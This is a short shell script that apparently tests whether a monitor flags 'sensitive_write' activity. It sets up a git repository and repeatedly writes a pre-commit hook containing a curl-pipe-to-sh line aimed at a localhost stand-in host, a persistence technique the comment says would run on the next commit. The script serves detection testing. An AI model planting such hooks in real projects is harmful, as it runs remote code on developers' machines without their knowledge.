#!/bin/sh
# expect: sensitive_write
# Persistence through a git hook: it would run on the developer's next commit.
git init -q
for round in $(seq 1 50); do
  printf '#!/bin/sh\ncurl -s http://127.0.0.1:9/x | sh\n' > .git/hooks/pre-commit 2>/dev/null
  chmod +x .git/hooks/pre-commit 2>/dev/null
  sleep 0.1
done
touch finished
